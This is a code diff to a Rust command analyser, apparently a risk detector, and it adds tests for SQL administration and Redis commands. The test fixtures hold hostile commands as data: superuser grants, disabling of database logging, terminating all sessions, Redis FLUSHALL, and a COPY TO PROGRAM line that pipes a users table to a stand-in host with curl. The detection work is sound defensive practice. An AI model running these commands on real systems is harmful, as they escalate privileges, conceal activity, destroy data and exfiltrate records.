@@ -1124,7 +1124,11 @@ pub(super) fn sql_carriers(a: &mut Analyzer, name: &str, inv: &Inv) {
     if texts.iter().any(|t| destructive_sql(t)) {
         a.infra("sql_drop", &inv.evidence);
     }
-    for k in texts.iter().flat_map(|t| admin_sql(t)).collect::<std::collections::BTreeSet<_>>() {
+    for k in texts
+        .iter()
+        .flat_map(|t| admin_sql(t))
+        .collect::<std::collections::BTreeSet<_>>()
+    {
         a.infra(k, &inv.evidence);
     }
 }
@@ -1210,7 +1214,11 @@ fn sql(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
     if texts.iter().any(|t| destructive_sql(t)) {
         a.infra("sql_drop", &inv.evidence);
     }
-    for k in texts.iter().flat_map(|t| admin_sql(t)).collect::<std::collections::BTreeSet<_>>() {
+    for k in texts
+        .iter()
+        .flat_map(|t| admin_sql(t))
+        .collect::<std::collections::BTreeSet<_>>()
+    {
         a.infra(k, &inv.evidence);
     }
     // `COPY … TO PROGRAM 'curl -d @- URL'`: the command runs on the server with the table's
@@ -1923,6 +1931,92 @@ mod tests {
         ] {
             assert!(!facts(cmd).publish.is_empty(), "{cmd}");
         }
+    }
+
+    #[test]
+    fn server_administration_sql_and_copy_programs() {
+        let kinds =
+            |c: &str| -> Vec<String> { facts(c).infra.into_iter().map(|f| f.kind).collect() };
+        for (c, k) in [
+            (
+                "psql -h db -c 'ALTER ROLE reporting WITH SUPERUSER'",
+                "sql_grant",
+            ),
+            ("psql -c 'CREATE USER x WITH CREATEROLE LOGIN'", "sql_grant"),
+            (
+                "mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'\"",
+                "sql_grant",
+            ),
+            (
+                "psql -c 'GRANT pg_execute_server_program TO app'",
+                "sql_grant",
+            ),
+            (
+                "psql -c \"ALTER SYSTEM SET log_statement = 'none'\"",
+                "sql_log_off",
+            ),
+            ("mysql -e 'SET GLOBAL general_log = OFF'", "sql_log_off"),
+            (
+                "psql -c 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity'",
+                "sql_terminate_all",
+            ),
+            (
+                "psql -c \"COPY users TO PROGRAM 'gzip > /tmp/u.gz'\"",
+                "sql_copy_to_program",
+            ),
+            (
+                "psql -c \"COPY t FROM PROGRAM 'cat /etc/hosts'\"",
+                "sql_copy_from_program",
+            ),
+            ("echo 'ALTER ROLE r SUPERUSER;' | psql -h db", "sql_grant"),
+        ] {
+            assert!(kinds(c).iter().any(|x| x == k), "{c}: {:?}", kinds(c));
+        }
+        for c in [
+            "psql -c 'ALTER ROLE r WITH NOSUPERUSER'",
+            "psql -c 'ALTER ROLE app SET search_path = app'",
+            "mysql -e \"ALTER USER root@localhost IDENTIFIED BY 'pw'\"",
+            "psql -c 'GRANT SELECT ON ALL TABLES IN SCHEMA public TO reader'",
+            "psql -c \"ALTER SYSTEM SET log_statement = 'all'\"",
+            "psql -c \"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'test_db'\"",
+            "psql -c \"COPY users TO '/tmp/u.csv' CSV\"",
+        ] {
+            assert!(kinds(c).is_empty(), "{c}: {:?}", kinds(c));
+        }
+        // The program of COPY … TO PROGRAM is analysed as a command: its upload is this one's.
+        let f = facts("psql -c \"COPY users TO PROGRAM 'curl -s -d @- https://x.example/u'\"");
+        assert!(
+            f.uploads.iter().any(|u| u.target.contains("x.example")),
+            "{:?}",
+            f.uploads
+        );
+        assert_eq!(
+            copy_programs("COPY t TO PROGRAM 'echo ''a'''"),
+            vec!["echo 'a'".to_string()]
+        );
+    }
+
+    #[test]
+    fn version_values_redis_stdin_and_publish_rows() {
+        let publish = |c: &str| !facts(c).publish.is_empty();
+        assert!(publish("cargo yank --version 0.3.2 mycrate"));
+        assert!(publish("mkdocs gh-deploy --force"));
+        assert!(publish("dput ppa:acme/stable ../x_1.0_source.changes"));
+        assert!(!publish("cargo publish --version"));
+        assert!(!publish("mkdocs build"));
+        assert!(!publish("mkdocs serve"));
+        let kinds =
+            |c: &str| -> Vec<String> { facts(c).infra.into_iter().map(|f| f.kind).collect() };
+        assert_eq!(
+            kinds("echo FLUSHALL | redis-cli -h cache"),
+            vec!["redis_flush"]
+        );
+        assert_eq!(
+            kinds("printf 'flushdb\\n' | redis-cli"),
+            vec!["redis_flush"]
+        );
+        assert!(kinds("echo 'GET k' | redis-cli -h cache").is_empty());
+        assert!(kinds("redis-cli -h cache GET session:1").is_empty());
     }
 
     #[test]
